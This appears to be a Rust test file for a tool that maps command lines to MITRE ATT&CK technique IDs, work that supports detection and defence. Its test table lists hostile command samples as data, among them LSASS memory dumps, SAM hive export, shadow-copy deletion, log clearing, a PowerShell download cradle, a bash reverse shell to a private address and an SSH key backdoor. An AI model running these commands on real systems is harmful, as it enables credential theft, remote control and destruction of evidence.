//! Commands and the techniques they show.

use vertice_intel::{Mapper, limits};
use vertice_testkit::{Random, known_answers, long};

use crate::labelled::{self, Score, mapper};

/// Each command, what it must show, and what it must not.
const COMMANDS: [(&str, &str, &str); 51] = [
    (r"C:\Windows\System32\schtasks.exe /Create /tn x /tr y", "T1053.005", ""),
    (r#"s^ch"ta"sks   /cre^ate /tn x"#, "T1053.005", ""),
    (r#"cmd /c "net  user /domain""#, "T1087.002 T1059.003", ""),
    (r#"{"cmd": "\"reg\" add \\\\HKLM\\x /v y"}"#, "T1112", ""),
    ("powershell -NoP -W Hidden -Enc SQBFAFgA", "T1059.001 T1027.010 T1564.003", ""),
    ("pow`ershell.exe IEX (New-Object Net.WebClient).DownloadString('http://x/y')", "T1059.001 T1105", ""),
    ("rundll32 C:\\windows\\system32\\comsvcs.dll, MiniDump 624 C:\\t\\lsass.dmp full", "T1003.001 T1218.011", ""),
    ("procdump64.exe -accepteula -ma lsass.exe out", "T1003.001", ""),
    (r"reg save HKLM\SAM c:\sam.hiv", "T1003.002", ""),
    ("vssadmin.exe Delete Shadows /All /Quiet", "T1490", ""),
    ("wevtutil cl Security", "T1070.001", ""),
    ("wmic /node:10.0.0.5 process call create calc", "T1047", ""),
    (r"copy a.exe \\10.0.0.5\C$\Windows", "T1570 T1021.002", ""),
    ("net use z: \\\\h\\ADMIN$ /user:a b", "T1021.002", ""),
    ("netsh advfirewall set allprofiles state off", "T1562.004", ""),
    ("nltest /domain_trusts", "T1482", ""),
    ("adfind.exe -f (objectcategory=computer)", "T1018", ""),
    ("bitsadmin /transfer j http://x/y c:\\y", "T1105", ""),
    ("certutil -urlcache -split -f http://x/y", "T1105", "T1140"),
    ("curl -s http://x/y -o /tmp/y; chmod +x /tmp/y", "T1105 T1222.002", ""),
    ("(crontab -l; echo '* * * * * /tmp/x') | crontab -", "T1053.003", ""),
    ("sudo cat /etc/shadow", "T1003.008", ""),
    ("echo ssh-rsa AAAA >> ~/.ssh/authorized_keys", "T1098.004", ""),
    ("launchctl load -w ~/Library/LaunchAgents/x.plist", "T1543.001 T1569.001", ""),
    ("security find-generic-password -wa Chrome", "T1555.001", ""),
    ("osascript -e 'display dialog \"x\" with hidden answer'", "T1056.002 T1059.002", ""),
    ("tar czf /tmp/a.tgz /home", "T1560.001", ""),
    ("systemctl enable evil.service", "T1543.002", ""),
    ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "T1059.004", ""),
    ("history -c && rm -f ~/.bash_history", "T1070.003 T1070.004", ""),
    ("xmrig -o stratum+tcp://pool:3333", "T1496", ""),
    ("kubectl exec -it pod -- sh", "T1609", ""),
    ("Accepted publickey for ana from 192.0.2.1", "", "T1021.004"),
    ("The user changed the schedule of the network.", "", "T1087.001 T1053.005"),
    ("echo hello world", "", "T1059.003"),
    ("net time", "T1124", "T1087.001"),
    (r#"{"id": 3, "host": "a", "cmd": "whoami /all"}"#, "T1033", "T1018 T1059.003"),
    ("The last host to find the set of groups is at 10:00", "", "T1033 T1018 T1083 T1082 T1069.001 T1053.002"),
    ("uid=0 id", "", "T1033"),
    ("sudo -E nohup id", "T1033", ""),
    ("for f in *; do rm $f; done", "T1070.004", ""),
    ("bash -c 'id'", "T1033 T1059.004", ""),
    ("curl http://x/a.php?cmd=id", "T1033", ""),
    ("ssh ana@h sudo tcpdump", "T1040 T1021.004", ""),
    ("sshpass -p x scp ./a h:/tmp", "T1105", "T1570"),
    ("dsquery * -filter \"(&(objectclass=computer))\" -attr *", "T1018", ""),
    (r"copy C:\loot.csv C:\Windows\Temp\x", "T1074.001", ""),
    (r"copy C:\a.exe C:\Windows\Temp\x.exe", "", "T1074.001"),
    ("plink -ssh -l ana 10.0.0.1", "T1021.004", "T1572"),
    ("plink -L 3389:10.0.0.2:3389 h", "T1572", ""),
    ("A=1 set", "", "T1082"),
];

#[test]
fn commands_show_their_techniques_and_the_words_they_rest_on() {
    let mapper = mapper();
    assert!(mapper.rules() > 250 && mapper.rules() < limits::MAPPER_RULES_MAX);
    for (command, wanted, unwanted) in COMMANDS {
        let found = mapper.map(command);
        let shown: Vec<&str> = found.techniques.iter().map(|m| m.technique.as_str()).collect();
        for id in wanted.split_whitespace() {
            assert!(shown.contains(&id), "{command}: {id} is not among {shown:?}");
        }
        for id in unwanted.split_whitespace() {
            assert!(!shown.contains(&id), "{command}: {id} is among {shown:?}");
        }
        assert!(found.techniques.iter().all(|m| !m.evidence.is_empty() && m.rule_line > 0), "{found:?}");
        let techniques: std::collections::BTreeSet<_> = found.techniques.iter().map(|m| &m.technique).collect();
        assert_eq!(techniques.len(), found.techniques.len(), "each once: {shown:?}");
    }
    let schtasks = mapper.map("schtasks /create");
    assert_eq!(schtasks.techniques[0].evidence, ["schtasks", "-create"]);
}

#[test]
fn a_rule_needs_its_words_in_one_command() {
    let table = "T1001: program a, word /b*\n# c\nT1002: text cc|dd, whole ee\nT1003: text ff, without gg|hh";
    let mapper = Mapper::parse(table).unwrap();
    let shown = |text: &str| mapper.map(text).techniques.iter().map(|m| m.rule_line).collect::<Vec<_>>();
    for (text, lines) in [
        ("a /bcd", vec![1]),
        ("a; /bcd", vec![]),
        ("x/a.exe --bcd", vec![1]),
        ("a b", vec![]),
        ("cc; ee", vec![3]),
        ("DD|EE a -b", vec![3, 1]),
        ("ff", vec![4]),
        ("ff hh", vec![]),
        ("ff; gg", vec![4]),
        ("", vec![]),
    ] {
        let mut found = shown(text);
        found.sort_unstable();
        let mut lines = lines;
        lines.sort_unstable();
        assert_eq!(found, lines, "{text}");
    }
    for (table, wanted) in [
        ("T1: program a", "line 1"),
        ("# x\nT1001 program a", "line 2"),
        ("T1001: nowhere a", "none of"),
        ("T1001: program", "no place"),
        ("T1001: without a", "everything"),
        ("T1001: text |", "everything"),
        ("T1001: word *", "everything"),
        (&format!("T1001: {}", vec!["word a"; 17].join(", ")), "16"),
        (&"T1001: word a\n".repeat(limits::MAPPER_RULES_MAX + 1), "4096"),
    ] {
        let error = Mapper::parse(table).unwrap_err().to_string();
        assert!(error.contains(wanted), "{table:.40}: {error}");
    }
}

#[test]
fn the_half_that_was_not_seen_is_mapped_as_well_as_is_published() {
    let Some(folder) = known_answers("emulation-plans") else {
        eprintln!("left out: 121 labelled commands, for they are absent");
        return;
    };
    let commands = labelled::commands(&folder);
    let score = Score::of(&mapper(), commands.iter().filter(|c| c.half == 1));
    assert_eq!(score.commands, 64);
    assert!(score.label_parent >= 36 && score.label_exact <= score.label_parent, "{score:?}");
    assert!(score.given_right * 100 >= score.given * 38 && score.first_parent >= 27, "{score:?}");
}

#[test]
fn events_of_sigma_that_were_not_seen_are_mapped_as_well_as_is_published() {
    let (Some(regression), Some(rules)) = (known_answers("sigma-regression"), known_answers("sigma")) else {
        eprintln!("left out: 56 labelled command lines, for they are absent");
        return;
    };
    let events = labelled::events(&regression, &rules);
    let score = Score::of(&mapper(), events.iter().filter(|c| c.half == 1));
    assert_eq!((events.len(), score.commands), (56, 27));
    assert!(score.label_parent >= 16 && score.given_right * 100 >= score.given * 58, "{score:?}");
}

#[test]
fn any_text_is_mapped_without_a_panic_and_within_bounds() {
    let mapper = mapper();
    let mut random = Random(11);
    for _ in 0..if long() { 100_000 } else { 3_000 } {
        let (command, ..) = COMMANDS[random.below(COMMANDS.len())];
        let text = String::from_utf8_lossy(&random.mutated(command.as_bytes())).into_owned();
        let found = mapper.map(&text);
        assert!(found.techniques.len() <= limits::MAPPED_MAX && !found.cut);
        assert_eq!(found, mapper.map(&text));
    }
    for part in ["\"", "^", "a;", "é", "\\", "net user ", "\u{1F600}|", "-"] {
        let found = mapper.map(&part.repeat(limits::MAPPED_BYTES_MAX + 1));
        assert!(found.cut);
    }
    let all: String = COMMANDS.iter().map(|(command, ..)| format!("{command}\n")).collect();
    assert_eq!(mapper.map(&all).techniques.len(), limits::MAPPED_MAX);
}
